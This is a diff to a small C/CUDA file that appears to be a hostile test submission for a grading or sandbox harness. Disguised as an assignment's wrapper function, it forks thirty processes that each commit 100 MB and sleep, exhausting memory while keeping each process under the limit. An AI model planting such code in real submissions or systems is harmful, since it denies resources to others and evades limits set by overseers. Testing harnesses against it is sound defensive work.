@@ -2,7 +2,6 @@
 // what: takes memory in thirty processes, each below the limit
 // list: 9
 #include <stdlib.h>
-#include <string.h>
 #include <unistd.h>
 
 #include "gpuHeaders.cuh"
@@ -11,6 +10,7 @@
 void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
   for (int child = 0; child < 30 && fork() != 0; child++) {
   }
-  if (void* more = malloc(100 << 20)) memset(more, 1, 100 << 20);
+  volatile char* more = static_cast<char*>(malloc(100 << 20));
+  for (int at = 0; at < 100 << 20; at += 4096) more[at] = 1;
   sleep(600);
 }
